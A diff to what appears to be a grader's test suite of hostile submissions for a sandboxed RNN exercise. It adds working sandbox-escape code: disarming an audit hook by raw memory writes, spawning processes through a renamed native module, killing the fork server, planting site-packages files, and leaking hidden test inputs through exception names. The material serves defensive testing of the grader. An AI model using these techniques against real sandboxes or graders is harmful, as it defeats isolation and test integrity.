@@ -48,6 +48,9 @@ class Attack:
     ``keywords``: every failed case of ``exercise`` must say one of them. ``whole``: every
     case of ``exercise`` must score 0 (not only some). ``marker``: a string in the command
     line of a process the attack tries to leave behind (none may exist after grading).
+    ``costs``: False for code that is correct when every forbidden operation it tries is
+    refused and caught: it must keep full marks. ``secret_text``: a string the attack puts
+    around hidden values, which must never reach feedback.
     """
 
     name: str
@@ -58,7 +61,13 @@ class Attack:
     whole: bool = False
     marker: str = ""
     description: str = ""
+    costs: bool = True
+    secret_text: str = ""
 
+    @property
+    def cheat(self) -> bool:
+        """Whether the code computes nothing unless a forbidden operation succeeds."""
+        return bool(self.mistakes) or "_zeros_like(" in self.code or "_forged" in self.code
     def build(self, dest: Path) -> Path:
         """Write the submission to ``dest`` (a folder holding ``rnnlab/``)."""
         make_submission(dest, self.mistakes)
@@ -162,7 +171,7 @@ ATTACKS: tuple[Attack, ...] = (
     Attack("huge_result", "simple_rnn", ("too large", "not run"),
            code=_wrap("simple_rnn", "return np.zeros((3000, 1000))"),
            description="returns a 24 MB array (the reply is over the limit)"),
-    Attack("print_flood", "one_hot", ("File too large",),
+    Attack("print_flood", "one_hot", ("File too large", "OSError"),
            code=_wrap("one_hot", "print('x' * 30_000_000)\nreturn _solution_one_hot(*args, **kwargs)"),
            description="prints 30 MB on every call"),
     # --- ending the process --------------------------------------------------------------
@@ -508,6 +517,243 @@ def _native():
            description="raises with the layer outputs (Keras's, played back) and inputs in the message"),
 )
 
+# --- attacks on the hook itself, for the kernel's layers to stop ---------------------------------
+
+HOOK_STATE = '''
+def _poke(address, value):
+    """Write a 64-bit word anywhere in this process, through a strided NumPy view."""
+    from numpy.lib.stride_tricks import as_strided
+    base = np.zeros(1, np.int64)
+    start = base.__array_interface__["data"][0]
+    as_strided(base, shape=(2,), strides=(address - start,))[1] = value
+
+
+def _disarm_hook():
+    """Empty the hook's table of blocked events and make every path readable to it."""
+    import os
+    try:
+        os.listdir("/")  # refused by the hook: its frame is in the traceback
+    except PermissionError as error:
+        tb = error.__traceback__
+    else:
+        return  # no hook
+    while tb is not None and tb.tb_frame.f_code.co_name != "hook":
+        tb = tb.tb_next
+    if tb is None:
+        return
+    state = tb.tb_frame.f_locals
+    _poke(id(state["blocked_events"]) + 16, 0)  # the tuple's length
+    _poke(id(state["prefixes"]) + 24, id("/"))  # its first readable prefix becomes "/"
+'''
+
+NATIVE_UNDER_OTHER_NAME = '''
+def _fork_exec():
+    """A fresh _posixsubprocess loaded under a name whose first part is allowed."""
+    import _imp
+    import glob
+    import importlib.machinery
+    import os
+    path = glob.glob(os.path.dirname(os.__file__) + "/lib-dynload/_posixsubprocess*.so")[0]
+    spec = importlib.machinery.ModuleSpec("numpy._posixsubprocess", None, origin=path)
+    return _imp.create_dynamic(spec).fork_exec
+
+
+def _run(argv):
+    """Run a program; its output (b"" if it could not start)."""
+    import os
+    fork_exec = _fork_exec()
+    r, w = os.pipe()
+    err_r, err_w = os.pipe()
+    fork_exec([a.encode() for a in argv], [argv[0].encode()], True, (w,), None, None, -1, -1, -1,
+              w, -1, -1, err_r, err_w, True, True, -1, None, None, None, -1, None, False)
+    os.close(w)
+    return os.read(r, 10**7)
+'''
+
+FORBIDDEN_OPERATIONS = '''
+import os
+import signal
+import socket
+
+
+def _refused(action):
+    """Whether the system refused ``action`` (the refusal must be a PermissionError)."""
+    try:
+        result = action()
+    except (PermissionError, RuntimeError):
+        return True  # RuntimeError: "can't start new thread"
+    except BaseException:
+        return False
+    return result == -1  # a C function that reports failure by its result
+
+
+def _libc():
+    import ctypes
+    return ctypes.CDLL(None, use_errno=True)
+
+
+def _fork():
+    if os.fork() == 0:
+        os._exit(0)
+
+
+def _site():
+    return os.path.dirname(os.path.dirname(np.__file__))
+
+
+def _raise_limits():
+    import resource
+    try:
+        resource.setrlimit(resource.RLIMIT_CPU, (-1, -1))
+    except ValueError as error:  # how Python words the kernel's EPERM here
+        raise PermissionError(str(error)) from None
+
+
+_FORBIDDEN = {
+    "fork": _fork,
+    "thread": lambda: __import__("_thread").start_new_thread(lambda: None, ()),
+    "spawn": lambda: __import__("subprocess").Popen(["/bin/true"]),
+    "socket": lambda: socket.socket(),
+    "unix socket": lambda: socket.socket(socket.AF_UNIX).connect("\\0rnnlab-hostile"),
+    "kill the fork server": lambda: os.kill(os.getppid(), 0),
+    "kill init": lambda: os.kill(1, 0),
+    "kill everything": lambda: os.kill(-1, 0),
+    "SIGIO owner": lambda: __import__("fcntl").fcntl(3, __import__("fcntl").F_SETOWN, os.getppid()),
+    "read hidden": lambda: open("@DATA@/hidden/lstm.npz", "rb"),
+    "read /etc": lambda: open("/etc/hostname", "rb"),
+    "list /": lambda: os.listdir("/"),
+    "read /proc": lambda: open(f"/proc/{os.getppid()}/environ", "rb"),
+    "write site-packages": lambda: open(_site() + "/zz_rnnlab_hostile.pth", "w"),
+    "write /tmp": lambda: open("/tmp/rnnlab-hostile.txt", "w"),
+    "write parent": lambda: open("@PARENT@/pwned.txt", "w"),
+    "write submission": lambda: open("@DEST@/pwned.txt", "w"),
+    "raise limits": _raise_limits,
+    "chroot": lambda: os.chroot("/"),
+    "mknod": lambda: os.mknod("node", 0o600 | __import__("stat").S_IFCHR, os.makedev(1, 3)),
+    "ptrace": lambda: _libc().ptrace(16, os.getppid(), 0, 0),
+    "outlive the server": lambda: _libc().prctl(1, 0, 0, 0, 0),
+    "unshare": lambda: _libc().unshare(0x20000),
+    "mount": lambda: _libc().mount(b"none", b".", b"tmpfs", 0, None),
+}
+
+
+def _all_refused():
+    allowed = [name for name, action in _FORBIDDEN.items() if not _refused(action)]
+    print("allowed:", allowed, flush=True)
+    return not allowed
+'''
+
+LETTERS = '''
+def _letters(values):
+    """Values spelled in letters: digits a-j, '.' as p, '-' as m, 'e' as x."""
+    table = str.maketrans("0123456789.-e", "abcdefghijpmx")
+    return "LEAKMARK" + "_".join(repr(float(v)).translate(table) for v in np.ravel(values)[:6])
+'''
+
+KERNEL_ATTACKS: tuple[Attack, ...] = (
+    Attack("hook_memory_write", "lstm", ("differ", "PermissionError", "not allowed"), marker="29.0625",
+           code=_cheat("lstm", ("_after_disarming()",), HOOK_STATE + '''
+import os
+import signal
+
+
+def _after_disarming():
+    _disarm_hook()
+    for action in (lambda: os.kill(os.getppid(), signal.SIGKILL),
+                   lambda: os.execv("/bin/sleep", ["/bin/sleep", "29.0625"]) if os.fork() == 0 else None):
+        try:
+            action()
+        except OSError:
+            pass
+    return ["@DATA@/hidden/lstm.npz"]
+'''),
+           description="disarms the audit hook by writing into its state through a strided NumPy view,"
+                       " then kills the fork server, forks, execs and reads the hidden fixtures"),
+    Attack("native_under_other_name", "embedding", ("differ", "PermissionError", "not allowed"),
+           marker="29.875",
+           code=_cheat("cosine_similarity", ("[_run(['/bin/cat', '@DATA@/hidden/embedding.npz'])]",
+                                             "[_run(['/bin/sh', '-c', 'sleep 29.875 &'])]"),
+                       NATIVE_UNDER_OTHER_NAME),
+           description="loads _posixsubprocess as numpy._posixsubprocess (_imp.create_dynamic) to run"
+                       " cat on the hidden fixtures and leave a process behind"),
+    Attack("forbidden_operations", "simple_rnn", (), costs=False,
+           code=_wrap("simple_rnn_step", "if not _all_refused():\n"
+                      "    return _zeros_like(_solution_simple_rnn_step(*args, **kwargs))\n"
+                      "return _solution_simple_rnn_step(*args, **kwargs)", ZEROS + FORBIDDEN_OPERATIONS),
+           description="tries 24 forbidden operations (processes, threads, signals, sockets, files,"
+                       " limits, ptrace, mount, unshare, the parent-death signal) and catches each"
+                       " refusal: correct only if all were refused"),
+    Attack("thread_at_import", "one_hot", (), costs=False,
+           code="import threading\nimport time\n\n\ndef _spin():\n    end = time.monotonic() + 60\n"
+                "    while time.monotonic() < end:\n        pass\n\n\ntry:\n"
+                "    threading.Thread(target=_spin, daemon=True).start()\nexcept RuntimeError:\n    pass",
+           description="starts a busy thread when one_hot.py is imported (embedding.py imports it)"),
+    Attack("signal_through_sigio", "bidirectional", (), costs=False,
+           code=_wrap("bidirectional", "import fcntl\nimport os\nimport signal\nimport termios\n"
+                      "for fd in _sockets():\n    for action in (\n"
+                      "        lambda: fcntl.fcntl(fd, fcntl.F_SETOWN, os.getppid()),\n"
+                      "        lambda: fcntl.fcntl(fd, 10, signal.SIGKILL),\n"
+                      "        lambda: fcntl.ioctl(fd, 0x8901, os.getppid().to_bytes(4, 'little')),\n"
+                      "        lambda: fcntl.fcntl(fd, fcntl.F_SETFL, os.O_ASYNC),\n    ):\n"
+                      "        try:\n            action()\n        except OSError:\n            pass\n"
+                      "return _solution_bidirectional(*args, **kwargs)", SOCKETS),
+           description="makes the kernel send SIGKILL to the fork server when data arrives on its"
+                       " socket (fcntl F_SETOWN/F_SETSIG, ioctl FIOSETOWN, O_ASYNC)"),
+    Attack("pidfd_kill_server", "bidirectional", (), costs=False,
+           code=_wrap("bidirectional", "import _signal\nimport os\nimport signal\nfor opener in (\n"
+                      "    lambda: os.open(f'/proc/{os.getppid()}', os.O_RDONLY | os.O_DIRECTORY),\n"
+                      "    lambda: __import__('posix').pidfd_open(os.getppid()),\n):\n    try:\n"
+                      "        _signal.pidfd_send_signal(opener(), signal.SIGKILL)\n"
+                      "    except OSError:\n        pass\n"
+                      "return _solution_bidirectional(*args, **kwargs)"),
+           description="kills the fork server through a pidfd (_signal.pidfd_send_signal, /proc/<pid>)"),
+    Attack("pth_into_site_packages", "one_hot", (), costs=False,
+           code=_wrap("one_hot", "import os\nsite = os.path.dirname(os.path.dirname(np.__file__))\n"
+                      "for name in ('zz_rnnlab_hostile.pth', 'sitecustomize.py', 'usercustomize.py'):\n"
+                      "    try:\n        open(os.path.join(site, name), 'w').write('# hostile\\n')\n"
+                      "    except OSError:\n        pass\n"
+                      "return _solution_one_hot(*args, **kwargs)"),
+           description="writes a .pth and sitecustomize.py into the grader's site-packages"),
+    Attack("truncate_log_then_print", "lstm", ("differ",),
+           code=_wrap("lstm", "import os\ninputs = np.asarray(args[0])\n"
+                      "if inputs.shape[0] > 2:  # public cases have B <= 2\n"
+                      "    for fd in (1, 2):\n        os.ftruncate(fd, 0)\n"
+                      "    print(repr(inputs.ravel().tolist()), flush=True)\n"
+                      "return _zeros_like(_solution_lstm(*args, **kwargs))", ZEROS),
+           description="truncates its log through its descriptor on hidden cases, then prints their inputs"),
+    Attack("values_in_letters", "simple_rnn", ("ValueError", "exception"), secret_text="LEAKMARK",
+           code=_wrap("simple_rnn", "inputs = np.asarray(args[0])\n"
+                      "if inputs.shape[0] > 2:  # public cases have B <= 2\n"
+                      "    spelled = _letters(inputs)\n"
+                      "    if inputs.shape[1] % 2:\n"
+                      "        raise type(spelled, (ValueError,), {})(spelled)\n"
+                      "    exec(compile(f'def {spelled}():\\n    raise ValueError(\"{spelled}\")', "
+                      "__file__[:-3] + spelled + '.py', 'exec'), globals())\n"
+                      "    globals()[spelled]()\n"
+                      "return _solution_simple_rnn(*args, **kwargs)", LETTERS),
+           description="spells hidden inputs in letters in exception messages, class names, function"
+                       " and file names"),
+    Attack("zeros_reveal_errors", "embedding", ("differ",),
+           code=_wrap("embedding_lookup",
+                      "return np.zeros_like(_solution_embedding_lookup(*args, **kwargs))"),
+           description="returns zeros, so that an error size would be the expected value"),
+    Attack("many_tiny_arrays", "one_hot", ("malformed", "not run", "timed out"),
+           code=_wrap("one_hot", "import json\nimport os\n"
+                      "header = json.dumps({'status': 'returned', 'outputs': 1,"
+                      " 'arrays': [['<f4', [0]]] * 900_000}).encode()\n"
+                      "body = len(header).to_bytes(8, 'big') + header\n"
+                      "for fd in _sockets():\n    os.write(fd, len(body).to_bytes(8, 'big') + body)\n"
+                      "return _solution_one_hot(*args, **kwargs)", SOCKETS),
+           description="replies with 900,000 empty arrays (15 MB of header)"),
+    Attack("deeply_nested_reply", "lstm", ("malformed", "not run"),
+           code=_wrap("lstm_gates", "import os\nheader = b'[' * 1_000_000\n"
+                      "body = len(header).to_bytes(8, 'big') + header\n"
+                      "for fd in _sockets():\n    os.write(fd, len(body).to_bytes(8, 'big') + body)\n"
+                      "return _solution_lstm_gates(*args, **kwargs)", SOCKETS),
+           description="replies with a JSON header nested a million levels deep"),
+)
+
+ATTACKS = ATTACKS + KERNEL_ATTACKS
 BY_NAME = {attack.name: attack for attack in ATTACKS}
 
 
